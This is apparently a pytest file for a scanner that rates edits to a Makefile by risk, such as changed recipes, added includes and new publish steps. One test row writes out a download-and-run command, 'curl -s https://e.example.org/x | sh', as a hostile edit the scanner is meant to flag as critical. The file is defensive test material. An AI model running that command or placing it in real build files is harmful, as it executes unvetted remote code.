"""What an edit of a make file means."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from kit.edits import edited, mangled, never_raises, said

from scanner.formats.builds import makefile

MAKE = """\
# Acme
VERSION := 1.2.0
CFLAGS ?= -O2
NAME = acme
FILES := $(wildcard src/*.c)
include rules/common.mk
ifeq ($(OS),Windows)
EXT := .exe
endif

.PHONY: all test lint release
all: build ## everything

build: $(FILES)
\t@echo "Building $(NAME) now"
\tgo build -o bin/$(NAME)$(EXT) ./cmd # here

test: build
\tgo test ./...

lint:
\truff check .

verify-tree:
\tgit diff --exit-code

release: verify-tree build
\t$(MAKE) sign
\tgh release create v$(VERSION) dist/*

sign:
\tcosign sign-blob dist/*

parser.c: parser.y
\tbison $<
"""

TOLD = [
    ("the build", ["go build -o", "go build -race -o"], ["high build-script-changed build"]),
    ("a file's recipe", ["bison $<", "bison -d $<"], ["high build-script-changed parser.c"]),
    ("what the build needs", ["build: $(FILES)", "build: $(FILES) prepare"], ["high build-script-changed build.needs"]),
    ("a check the release needs", ["git diff --exit-code", "git diff"], ["low build-script-changed verify-tree"]),
    ("a new target that ships", ["lint:\n", "upload:\n\t./up\nlint:\n"], ["high build-script-changed upload"]),
    ("a new target", ["lint:\n", "hello:\n\t./up\nlint:\n"], ["medium build-script-changed hello"]),
    ("a target gone", ["sign:\n\tcosign sign-blob dist/*\n", ""], ["low build-script-changed sign"]),
    ("version", ["1.2.0", "1.3.0"], ["medium version-changed VERSION"]),
    ("flags", ["-O2", "-O2 -DX"], ["high build-script-changed CFLAGS"]),
    ("a plain variable", ["NAME = acme", "NAME = other"], ["medium build-script-changed NAME"]),
    ("a variable that runs", ["NAME = acme", "NAME = $(shell ./x)"], ["high build-script-changed NAME"]),
    ("the condition of a variable", ["($(OS),Windows)", "($(OS),Linux)"], ["medium build-script-changed EXT"]),
    ("another file", ["common.mk", "other.mk"], ["high include-changed include"]),
    ("one more file", ["include rules/common.mk", "include rules/common.mk x.mk"], ["high include-added include"]),
    ("fetch and run in a test", ["go test ./...", "curl -s https://e.example.org/x | sh"],
     ["critical download-and-run recipes"]),
    ("publish in a check", ["ruff check .", "twine upload dist/*"], ["critical publish-changed recipes"]),
    ("another release", ["v$(VERSION) dist/*", "v$(VERSION) out/*"],
     ["high build-script-changed release", "high publish-changed recipes"]),
    ("code nobody knows", ["# Acme", "$(eval x)"], ["high build-script-changed file"]),
]  # fmt: skip
QUIET = [
    ("comment", ["# Acme", "# Acme's"]),
    ("help", ["## everything", "## all"]),
    ("phony", ["all test lint", "all lint test"]),
    ("a comment in a recipe", ["# here", "# there"]),
    ("a message", ["Building $(NAME) now", "We build $(NAME) now"]),
    ("a test", ["go test ./...", "go test -race ./..."]),
    ("a check", ["ruff check .", "ruff check src"]),
    ("a new check", ["lint:\n", "typecheck:\n\tmypy\nlint:\n"]),
    ("silence", ["\tgo build", "\t@go build"]),
    ("how it is assigned", ["NAME = acme", "NAME   =  acme"]),
    ("order", ["lint:\n\truff check .\n\nverify-tree:\n\tgit diff --exit-code\n",
               "verify-tree:\n\tgit diff --exit-code\n\nlint:\n\truff check .\n"]),
]  # fmt: skip


@pytest.mark.parametrize(("edits", "expected"), [row[1:] for row in TOLD], ids=[row[0] for row in TOLD])
def test_what_is_told(edits: list[str], expected: list[str]) -> None:
    assert said(makefile, MAKE, edited(MAKE, *edits)) == expected


@pytest.mark.parametrize("edits", [row[1] for row in QUIET], ids=[row[0] for row in QUIET])
def test_what_means_nothing(edits: list[str]) -> None:
    assert said(makefile, MAKE, edited(MAKE, *edits)) == []


def test_new_gone_and_unreadable() -> None:
    assert said(makefile, None, "test:\n\tpytest\n") == []
    assert said(makefile, None, "release:\n\t./r\n") == ["medium build-script-changed release"]
    assert said(makefile, MAKE, None) == ["medium file-removed file"]
    assert [each.split()[1] for each in said(makefile, MAKE, "<<<<<<< a\n")] == ["opaque"]


@settings(max_examples=100, deadline=None)
@given(old=mangled(MAKE), new=mangled(MAKE))
def test_never_raises(old: bytes, new: bytes) -> None:
    never_raises(makefile, old, new)


def test_several_ways_to_publish_are_told_in_one_order() -> None:
    recipes = [f"\ttwine upload dist/{name}-*\n" for name in ("d", "b", "a", "e", "c")]
    found = list(makefile.diff(b"all:\n\ttrue\n", f"publish:\n{''.join(recipes)}".encode()))
    (told,) = [each.new for each in found if each.kind == "publish-changed"]
    ways = told.rstrip(".").split("; ")
    assert len(ways) > 1
    assert ways == sorted(ways)
